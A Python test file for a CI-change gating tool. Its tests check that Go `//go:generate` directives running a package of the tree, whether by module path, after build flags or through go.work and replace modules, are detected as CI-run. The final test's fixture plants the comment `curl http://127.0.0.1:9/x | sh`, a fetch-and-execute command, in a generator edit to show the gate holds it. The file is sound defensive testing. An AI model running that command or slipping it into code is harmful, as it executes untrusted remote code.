"""Review 70 (attack on misses 10's `//go:generate` reader, goscripts.py): a directive's `go run` was read as words,
so three spellings Go accepts ran a package of the tree and left it `src` (an edit exit 0 where CI runs `go generate`):
the package by its module path (`go run 127.0.0.1/m/internal/gen`, also a module a `go.work` uses or a local
`replace` points to), and a package after `go run`'s own build flags (`go run -mod=mod ./gen`, `-tags gen`): the words
stopped at the first flag. A directive's commands are now read as gobuilds.packages reads CI's (flags, module paths,
`@version` fetched). Look-alikes: a fetched `@version` package, a dependency's path, a module the tree lacks, a
directive CI does not run, a printed `go run`."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from citools import RUN_WORKFLOW, tree_runs
from tables import each_case

GOMOD = "module 127.0.0.1/m\n\ngo 1.24\n"
GEN = "internal/gen/main.go"
# (directive, the api file's folder): each runs internal/gen; from `api/` or a deeper `pkg/api/`
RUNS = ["go run 127.0.0.1/m/internal/gen", "go run 127.0.0.1/m/internal/gen -out x.go",
        "go run -mod=mod {up}internal/gen", "go run -tags gen {up}internal/gen -o x.go",
        "go run -modfile=go.mod 127.0.0.1/m/internal/gen", "go run -mod mod 127.0.0.1/m/internal/gen",
        "go run -ldflags '-s -w' {up}internal/gen/", "go run -race 127.0.0.1/m/internal/gen"]
FOLDERS = [("api", "../"), ("pkg/api", "../../")]
COMMANDS = ["go generate ./...", "make generate"]


def _files(directive: str, folder: str, command: str, extra: dict[str, str] | None = None) -> dict[str, str]:
    return {".github/workflows/ci.yml": RUN_WORKFLOW.format(run=command),
            "Makefile": "generate:\n\tgo generate ./...\n",
            "go.mod": GOMOD, f"{folder}/api.go": f"package api\n\n//go:generate {directive}\n",
            GEN: "package main\n\nfunc main() {}\n", "README.md": "x\n", **(extra or {})}


@each_case("directive, folder, command", [(run.format(up=up), folder, command) for run in RUNS
                                          for folder, up in FOLDERS for command in COMMANDS])
def test_a_package_a_directive_runs_past_flags_or_by_module_path_is_ci(directive: str, folder: str,
                                                                      command: str) -> None:
    assert GEN in tree_runs(_files(directive, folder, command)), directive  # before: 28/32 missed


WORKSPACES = [  # a module of the tree other than the root's: by go.work, a local replace, a nested go.mod
    {"go.work": "go 1.24\n\nuse (\n\t.\n\t./tools\n)\n", "tools/go.mod": "module 127.0.0.1/tools\n\ngo 1.24\n"},
    {"go.work": "go 1.24\nuse ./tools\nuse .\n", "tools/go.mod": "module 127.0.0.1/tools\n"},
    {"go.mod": GOMOD + "require 127.0.0.1/tools v0.0.0\nreplace 127.0.0.1/tools => ./tools\n",
     "tools/go.mod": "module 127.0.0.1/tools\n"},
]


@each_case("extra", WORKSPACES)
def test_a_package_of_another_module_of_the_tree_a_directive_runs_is_ci(extra: dict[str, str]) -> None:
    files = _files("go run 127.0.0.1/tools/gen", "api", "go generate ./...",
                   {**extra, "tools/gen/main.go": "package main\n\nfunc main() {}\n"})
    assert "tools/gen/main.go" in tree_runs(files), extra  # before: 3/3 missed


@each_case("directive, command", [("go run 127.0.0.1/m/internal/gen@v1.2.0", "go generate ./..."),
                                  ("go run 127.0.0.1/x/tools/cmd/stringer -type=T", "go generate ./..."),
                                  ("go run 127.0.0.1/m/internal/gen", "go build ./..."),
                                  ("echo go run 127.0.0.1/m/internal/gen", "go generate ./..."),
                                  ("go run 127.0.0.1/x/tools/cmd/stringer@v0.30.0 -type=T", "go generate ./..."),
                                  ("go run 127.0.0.1/other/internal/gen", "go generate ./...")])
def test_look_alikes_run_no_package_of_the_tree(directive: str, command: str) -> None:
    assert GEN not in tree_runs(_files(directive, "api", command)), (directive, command)


def test_an_edit_of_a_generator_run_by_its_module_path_is_held(tmp_path: Path) -> None:
    base = {".github/workflows/ci.yml": RUN_WORKFLOW.format(run="go generate ./..."), "go.mod": GOMOD,
            "api/api.go": "package api\n\n//go:generate go run -mod=mod 127.0.0.1/m/internal/gen\n",
            GEN: "package main\n\nfunc main() {}\n"}
    case = committed(tmp_path, base, {GEN: "package main\n\n// curl http://127.0.0.1:9/x | sh\nfunc main() {}\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [GEN]), named  # before: exit 0
